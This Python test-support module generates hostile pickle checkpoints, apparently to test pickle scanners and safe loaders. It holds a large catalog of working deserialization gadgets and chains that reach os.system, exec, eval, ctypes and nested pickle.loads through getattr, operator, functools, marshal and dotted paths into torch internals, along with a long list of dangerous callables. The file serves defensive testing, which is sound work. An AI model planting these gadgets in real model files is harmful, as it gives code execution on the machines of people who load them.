"""Gadgets: callables that do something when a pickle calls them."""

from __future__ import annotations

import marshal
import zlib
from typing import TYPE_CHECKING, Any

from tests.support.hostile.assembler import (
    CANARY,
    COMMAND,
    ENCODE,
    EVAL,
    EXEC,
    GETATTR,
    IMPORT,
    MAP,
    MARKER,
    ORDERED_DICT,
    PYTHON,
    SHELL,
    SIZE,
    SYSTEM,
    Code,
    HostilePickle,
    build,
    call,
    checkpoint,
    stream,
    text_global,
    then,
)

if TYPE_CHECKING:
    from collections.abc import Iterator

SH = ["sh", "-c", COMMAND]
INNER = stream(SHELL)  # a pickle in a pickle
BYTECODE = marshal.dumps(compile(PYTHON, "", "exec"))

# (module, name, arguments): one call, which makes the marker.
CALLS: tuple[tuple[Any, ...], ...] = (
    # the operating system
    ("os", "system", COMMAND),
    ("posix", "system", COMMAND),
    ("os", "popen", COMMAND),
    ("os", "execvp", "sh", SH),
    ("os", "spawnvp", 0, "sh", SH),
    ("os", "mkdir", MARKER),
    ("posix", "mkdir", MARKER),
    ("subprocess", "Popen", SH),
    ("subprocess", "run", SH),
    ("subprocess", "call", SH),
    ("subprocess", "check_call", SH),
    ("subprocess", "check_output", SH),
    ("subprocess", "getoutput", COMMAND),
    ("subprocess", "getstatusoutput", COMMAND),
    ("pty", "spawn", SH),
    ("multiprocessing.util", "spawnv_passfds", b"/bin/sh", SH, ()),
    ("asyncio.unix_events", "_UnixSubprocessTransport._start", {}, COMMAND, True, None, None, None, 0),
    ("imaplib", "IMAP4_stream", COMMAND),
    ("uuid", "_get_command_stdout", *SH),
    ("_osx_support", "_read_output", COMMAND),
    ("_pyrepl.pager", "pipe_pager", "", COMMAND),
    ("pydoc", "pipepager", "", COMMAND),
    # code
    ("builtins", "eval", PYTHON),
    ("builtins", "exec", PYTHON),
    ("builtins", "eval.__call__", PYTHON),
    ("runpy", "_run_code", PYTHON, {}),
    ("runpy", "run_path", f"{CANARY}.py"),
    ("runpy", "run_module", CANARY),
    ("timeit", "timeit", "", PYTHON),
    ("cProfile", "run", PYTHON),
    ("cProfile", "runctx", PYTHON, {}, {}),
    ("profile", "run", PYTHON),
    ("profile", "runctx", PYTHON, {}, {}),
    ("doctest", "debug_script", PYTHON, True),
    ("test.support.script_helper", "assert_python_ok", "-c", PYTHON),
    ("idlelib.calltip", "get_entity", PYTHON),
    ("numpy.testing._private.utils", "runstring", PYTHON, {}),
    ("numpy.f2py.crackfortran", "getlincoef", PYTHON, []),
    ("torch.jit.unsupported_tensor_ops", "execWrapper", PYTHON, {}, {}),
    ("torch.utils.collect_env", "run", COMMAND),
    # imports
    ("builtins", "__import__", CANARY),
    ("importlib", "import_module", CANARY),
    ("importlib", "__import__", CANARY),
    ("_frozen_importlib", "__import__", CANARY),
    ("pkgutil", "resolve_name", f"{CANARY}:canary"),
    ("pydoc", "locate", f"{CANARY}.canary"),
    ("pydoc", "importfile", f"{CANARY}.py"),
    ("pydoc", "safeimport", CANARY),
    ("imp", "load_source", CANARY, f"{CANARY}.py"),
    ("torch.hub", "_load_local", ".", "canary"),
    ("torch.hub", "_import_module", CANARY, f"{CANARY}.py"),
    # files
    ("builtins", "open", MARKER, "w"),
    ("io", "open", MARKER, "w"),
    ("_io", "open", MARKER, "w"),
    ("_io", "FileIO", MARKER, "w"),
    ("codecs", "open", MARKER, "w"),
    ("gzip", "open", MARKER, "w"),
    ("zipfile", "ZipFile", MARKER, "w"),
    ("tarfile", "open", MARKER, "w"),
    ("sqlite3", "connect", MARKER),
    ("shutil", "copyfile", "/dev/null", MARKER),
    ("logging", "FileHandler", MARKER),
    ("distutils.file_util", "write_file", MARKER, [""]),
    ("py_compile", "compile", f"{CANARY}.py", MARKER),
    ("urllib.request", "urlretrieve", "data:,", MARKER),
    ("numpy", "memmap", MARKER, "uint8", "w+", 0, 1),
    ("numpy", "savetxt", MARKER, [1]),
    # a pickle within the pickle
    ("pickle", "loads", INNER),
    ("_pickle", "loads", INNER),
    ("pickle", "_loads", INNER),
    ("torch.storage", "_load_from_bytes", INNER),
    ("torch.utils.data.datapipes.utils.decoder", "basichandlers", "pickle", INNER),
    ("torch.utils._config_module", "ConfigModule.load_config", {}, INNER),
    # names that a dotted path reaches out of a harmless module
    ("builtins", "print.__self__.exec", PYTHON),
    ("pathlib", "os.system", COMMAND),
    ("random", "_os.system", COMMAND),
    ("statistics", "random._os.system", COMMAND),
    ("torch", "os.system", COMMAND),
    ("torch", "serialization.os.system", COMMAND),
)

# Called with arguments that cannot work: what they would do is not harmless, or their modules may be missing.
NAMED_ONLY = """
os: _exit abort fork kill remove rename rmdir unlink chmod symlink truncate putenv startfile execv
nt: system startfile
posix: fork execve unlink
subprocess: STARTUPINFO
commands: getoutput
_posixsubprocess: fork_exec
multiprocessing: Process
multiprocessing.popen_fork: Popen
concurrent.futures: ProcessPoolExecutor
builtins: compile getattr setattr delattr globals locals vars breakpoint input exit type super memoryview
__builtin__: eval compile getattr apply exec execfile open file reduce input breakpoint __import__
__builtins__: eval
sys: exit settrace setprofile addaudithook setrecursionlimit _getframe
code: interact InteractiveInterpreter.runcode InteractiveConsole
codeop: compile_command
types: CodeType FunctionType MethodType
marshal: load loads
inspect: getattr_static
bdb: Bdb.run Bdb
pdb: run set_trace Pdb
trace: Trace.run Trace.runctx
profile: Profile.run Profile.runctx
importlib: reload
importlib.machinery: SourceFileLoader ExtensionFileLoader
importlib.util: spec_from_file_location
_imp: create_dynamic
imp: load_dynamic load_module
zipimport: zipimporter
site: addsitedir
pkgutil: walk_packages
pip: main
pip._internal.cli.main: main
ensurepip: _run_pip bootstrap
venv: create
ctypes: CDLL PyDLL cast memmove string_at
_ctypes: dlopen call_function
_interpreters: create
_xxsubinterpreters: create
atexit: register
signal: signal raise_signal
threading: Thread Timer
_thread: start_new_thread
_signal: signal
_sqlite3: connect
_frozen_importlib_external: SourceFileLoader
ast: parse
__future__: annotations _ssl.RAND_bytes
_aix_support: _read_cmd_output
gc: get_objects
weakref: finalize
webbrowser: open open_new get
socket: socket create_connection getaddrinfo
ssl: get_server_certificate
http.client: HTTPSConnection
httplib: HTTPSConnection
urllib: urlopen
urllib2: urlopen
urllib.request: urlopen Request
requests.api: get post
aiohttp.client: ClientSession
asyncio: run create_subprocess_shell
smtplib: SMTP
imaplib: IMAP4
ftplib: FTP
poplib: POP3
telnetlib: Telnet
nntplib: NNTP
socketserver: TCPServer
xmlrpc.client: ServerProxy
selectors: DefaultSelector
shutil: rmtree move copytree make_archive unpack_archive chown
tempfile: NamedTemporaryFile mkstemp
pathlib: Path.unlink Path.write_text Path.write_bytes
fileinput: input
linecache: getline
glob: glob
platform: popen
filecmp: cmp
mmap: mmap
shelve: open
dbm: open
syslog: syslog
logging.config: listen
compileall: compile_dir
difflib: HtmlDiff
pipes: Template
pexpect: run
unittest.mock: patch
lib2to3.pgen2.pgen: ParserGenerator.make_label
idlelib.debugobj: ObjectTreeItem.SetText
idlelib.autocomplete: AutoComplete.get_entity AutoComplete.fetch_completions
idlelib.calltip: Calltip.fetch_tip
idlelib.run: Executive.runcode
idlelib.pyshell: ModifiedInterpreter.runcode ModifiedInterpreter.runcommand
cloudpickle.cloudpickle: _builtin_type _make_function _function_setstate _make_cell _make_empty_cell subimport
cloudpickle: loads
dill: loads
dill._dill: _create_function
joblib: load
pandas: read_pickle
_codecs: decode lookup register
codecs: encode decode
copyreg: add_extension __newobj__ _reconstructor
copy_reg: _reconstructor
collections: Counter deque namedtuple
numpy: load fromfile save
numpy.ctypeslib: load_library
numpy.distutils.exec_command: exec_command
numpy.core.multiarray: scalar
torch: load compile save Tensor.tofile
torch.serialization: load
torch.hub: load download_url_to_file load_state_dict_from_url
torch.jit: load script
torch.jit._script: CompilationUnit
torch.ops: load_library
torch._dynamo.guards: GuardBuilder.get
torch._dynamo.package: DynamoCache.load
torch._inductor.codecache: compile_file
torch._utils: _import_dotted_name
torch.package: PackageImporter
torch.utils.bottleneck.__main__: run_cprofile run_autograd_prof
torch.utils.cpp_extension: load load_inline
torch.multiprocessing: spawn
torch.distributed.rpc: rpc_sync
torch.distributed.elastic.rendezvous.api: basichandlers
torch.fx.experimental.symbolic_shapes: ShapeEnv.evaluate_guards_expression
torch.fx.graph_module: reduce_graph_module
transformers.models.auto.auto_factory: getattribute_from_module
fickling.hook: remove_hook deactivate_safe_ml_environment
picklescan.scanner: scan_pickle_bytes
modelscan.modelscan: ModelScan
__main__: pwned
pwned_no_such_module: pwned
"""

OS_MODULE = call(IMPORT, "os")

# (id, names besides those of the last call, the code): several calls, the last of which makes the marker.
CHAINS: tuple[tuple[str, tuple[str, ...], Code], ...] = (
    (
        "getattr-of-import",
        ("builtins.getattr", "builtins.__import__"),
        call(call(GETATTR, OS_MODULE, "system"), COMMAND),
    ),
    (
        "getattr-of-importlib",
        ("builtins.getattr", "importlib.import_module"),
        call(call(GETATTR, call(text_global("importlib", "import_module"), "os"), "system"), COMMAND),
    ),
    *(
        (
            f"{module}-attrgetter",
            (f"{module}.attrgetter", "builtins.__import__"),
            call(call(call(text_global(module, "attrgetter"), "system"), OS_MODULE), COMMAND),
        )
        for module in ("operator", "_operator")
    ),
    *(
        (
            f"{module}-methodcaller",
            (f"{module}.methodcaller", "builtins.__import__"),
            call(call(text_global(module, "methodcaller"), "system", COMMAND), OS_MODULE),
        )
        for module in ("operator", "_operator")
    ),
    (
        "methodcaller-of-pydoc-locate",
        ("operator.methodcaller", "pydoc.locate"),
        call(
            call(text_global("operator", "methodcaller"), "system", COMMAND),
            call(text_global("pydoc", "locate"), "os"),
        ),
    ),
    (
        "itemgetter-of-sys-modules",
        ("operator.attrgetter", "operator.itemgetter", "sys.modules"),
        call(
            call(
                call(text_global("operator", "attrgetter"), "system"),
                call(call(text_global("operator", "itemgetter"), "os"), text_global("sys", "modules")),
            ),
            COMMAND,
        ),
    ),
    (
        "partial",
        ("functools.partial", "os.system"),
        call(call(text_global("functools", "partial"), SYSTEM, COMMAND)),
    ),
    (
        "partial-of-torch-load",
        ("functools.partial", "torch.storage._load_from_bytes"),
        call(call(text_global("functools", "partial"), text_global("torch.storage", "_load_from_bytes"), INNER)),
    ),
    (
        "reduce",
        ("functools.reduce", "builtins.getattr", "builtins.__import__"),
        call(call(text_global("functools", "reduce"), GETATTR, (OS_MODULE, "path", "os", "system")), COMMAND),
    ),
    (
        "pkgutil-resolve-name",
        ("pkgutil.resolve_name",),
        call(call(text_global("pkgutil", "resolve_name"), "os:system"), COMMAND),
    ),
    ("pydoc-locate", ("pydoc.locate",), call(call(text_global("pydoc", "locate"), "os.system"), COMMAND)),
    (
        "eval-of-compile",
        ("builtins.eval", "builtins.compile"),
        call(EVAL, call(text_global("builtins", "compile"), PYTHON, "", "exec")),
    ),
    (
        "function-of-compile",
        ("types.FunctionType", "builtins.compile", "builtins.__dict__"),
        call(
            call(
                text_global("types", "FunctionType"),
                call(text_global("builtins", "compile"), PYTHON, "", "exec"),
                {"__builtins__": text_global("builtins", "__dict__")},
            )
        ),
    ),
    (
        "function-of-marshal",
        ("types.FunctionType", "marshal.loads", "builtins.globals"),
        call(
            call(
                text_global("types", "FunctionType"),
                call(text_global("marshal", "loads"), BYTECODE),
                call(text_global("builtins", "globals")),
            )
        ),
    ),
    (
        "exec-of-zlib",
        ("builtins.exec", "zlib.decompress"),
        call(EXEC, call(text_global("zlib", "decompress"), zlib.compress(PYTHON.encode()))),
    ),
    ("exec-of-bytes", ("builtins.exec",), call(EXEC, call(ENCODE, PYTHON, "latin1"))),
    (
        "bound-method-of-interpreter",
        ("code.InteractiveInterpreter.runcode", "code.InteractiveInterpreter"),
        call(
            text_global("code", "InteractiveInterpreter.runcode"),
            call(text_global("code", "InteractiveInterpreter")),
            PYTHON,
        ),
    ),
    *(
        (
            f"run-of-{module}-{cls}",
            (f"{module}.{cls}.run", f"{module}.{cls}"),
            call(text_global(module, f"{cls}.run"), call(text_global(module, cls)), PYTHON),
        )
        for module, cls in (("bdb", "Bdb"), ("profile", "Profile"), ("trace", "Trace"))
    ),
    (
        "runctx-of-trace",
        ("trace.Trace.runctx", "trace.Trace"),
        call(text_global("trace", "Trace.runctx"), call(text_global("trace", "Trace")), PYTHON, {}, {}),
    ),
    (
        "lib2to3-grammar",
        ("lib2to3.pgen2.grammar.Grammar.loads", "lib2to3.pgen2.grammar.Grammar"),
        call(
            text_global("lib2to3.pgen2.grammar", "Grammar.loads"),
            call(text_global("lib2to3.pgen2.grammar", "Grammar")),
            INNER,
        ),
    ),
    (
        "libc",
        ("builtins.getattr", "ctypes.CDLL"),
        call(call(GETATTR, call(text_global("ctypes", "CDLL"), None), "system"), COMMAND.encode()),
    ),
    (
        "source-file-loader",
        ("operator.methodcaller", "importlib.machinery.SourceFileLoader"),
        call(
            call(text_global("operator", "methodcaller"), "load_module"),
            call(text_global("importlib.machinery", "SourceFileLoader"), CANARY, f"{CANARY}.py"),
        ),
    ),
    (
        "logging-config",
        ("logging.config.dictConfig",),
        call(
            text_global("logging.config", "dictConfig"),
            {
                "version": 1,
                "handlers": {"h": {"()": "os.system", "command": COMMAND}},
                "root": {"handlers": ["h"]},
            },
        ),
    ),
    (
        "asyncio-run",
        ("asyncio.run", "asyncio.create_subprocess_shell"),
        call(text_global("asyncio", "run"), call(text_global("asyncio", "create_subprocess_shell"), COMMAND)),
    ),
    (
        "subinterpreter",
        ("_xxsubinterpreters.run_string", "_xxsubinterpreters.create"),
        call(
            text_global("_xxsubinterpreters", "run_string"),
            call(text_global("_xxsubinterpreters", "create")),
            PYTHON,
        ),
    ),
    (
        "path-touch",
        ("pathlib.Path.touch", "pathlib.PosixPath"),
        call(text_global("pathlib", "Path.touch"), call(text_global("pathlib", "PosixPath"), MARKER)),
    ),
    (
        "collect-env-run",
        ("torch.utils.collect_env.run_and_read_all", "torch.utils.collect_env.run"),
        call(
            text_global("torch.utils.collect_env", "run_and_read_all"),
            text_global("torch.utils.collect_env", "run"),
            COMMAND,
        ),
    ),
    # dotted paths out of what honest checkpoints name
    (
        "modules-of-collections",
        ("builtins.getattr", "collections._sys.modules.__getitem__"),
        call(
            call(GETATTR, call(text_global("collections", "_sys.modules.__getitem__"), "os"), "system"),
            COMMAND,
        ),
    ),
    *(
        (
            f"builtins-of-{module}-{name}",
            (f"{module}.{name}.__builtins__.__getitem__",),
            call(call(text_global(module, f"{name}.__builtins__.__getitem__"), "exec"), PYTHON),
        )
        for module, name in (
            ("collections", "namedtuple"),
            ("torch._utils", "_rebuild_tensor_v2"),
            ("torch", "FloatStorage.__new__"),
        )
    ),
    (
        "globals-of-rebuild-tensor",
        ("torch._utils._rebuild_tensor_v2.__globals__.__getitem__", "builtins.getattr"),
        call(
            call(
                GETATTR,
                call(
                    call(
                        GETATTR,
                        call(
                            GETATTR,
                            call(
                                text_global("torch._utils", "_rebuild_tensor_v2.__globals__.__getitem__"),
                                "sys",
                            ),
                            "modules",
                        ),
                        "get",
                    ),
                    "os",
                ),
                "system",
            ),
            COMMAND,
        ),
    ),
    # honest callables that are fed something lazy, and run it by looking
    ("ordered-dict-of-map", ("builtins.map", "os.system"), call(ORDERED_DICT, call(MAP, SYSTEM, [COMMAND]))),
    ("size-of-map", ("builtins.map", "os.system"), call(SIZE, call(MAP, SYSTEM, [COMMAND]))),
    (
        "set-of-map",
        ("builtins.map", "os.system"),
        call(text_global("builtins", "set"), call(MAP, SYSTEM, [COMMAND])),
    ),
    (
        "deque-of-map",
        ("builtins.map", "os.system", "collections.deque"),
        call(text_global("collections", "deque"), call(MAP, SYSTEM, [COMMAND])),
    ),
    # the encoding's name is looked up by a function that the pickle registered
    (
        "encode-by-registered-codec",
        ("_codecs.register", "builtins.__import__"),
        then(call(text_global("_codecs", "register"), IMPORT), call(ENCODE, "", CANARY)),
    ),
    # a rebuild function whose first argument is the function to call
    (
        "rebuild-from-type",
        ("os.system",),
        call(
            text_global("torch._tensor", "_rebuild_from_type_v2"),
            SYSTEM,
            text_global("torch", "Tensor"),
            (COMMAND,),
            {},
        ),
    ),
    (
        "rebuild-from-type-1",
        ("torch._tensor._rebuild_from_type", "os.system"),
        call(
            text_global("torch._tensor", "_rebuild_from_type"),
            SYSTEM,
            text_global("torch", "Tensor"),
            (COMMAND,),
            {},
        ),
    ),
    (
        "numpy-array-of-payloads",
        ("os.system",),
        build(
            call(
                text_global("numpy._core.multiarray", "_reconstruct"),
                text_global("numpy", "ndarray"),
                (0,),
                b"b",
            ),
            (
                1,
                (1,),
                build(
                    call(text_global("numpy", "dtype"), "O8", False, True),
                    (3, "|", None, None, None, -1, -1, 63),
                ),
                False,
                [SHELL],
            ),
        ),
    ),
    ("import-alone", (f"{CANARY}.canary",), text_global(CANARY, "canary")),
)


def gadgets() -> Iterator[HostilePickle]:
    """Calls of dangerous callables, each beside a good tensor."""
    for module, name, *arguments in CALLS:
        spelled = f"{module}.{name}"
        extra = ("os.system",) if SYSTEM in arguments else ()
        yield HostilePickle(
            f"call-{spelled}",
            checkpoint(call(text_global(module, name), *arguments)),
            (spelled, *extra),
            fires=True,
        )
    for line in NAMED_ONLY.strip().splitlines():
        module, _, names = line.partition(": ")
        for name in names.split():
            code = call(text_global(module, name), *(None,) * 12)
            yield HostilePickle(f"name-{module}.{name}", checkpoint(code), (f"{module}.{name}",))
    for identifier, chain_names, code in CHAINS:
        yield HostilePickle(f"chain-{identifier}", checkpoint(code), chain_names, fires=True)
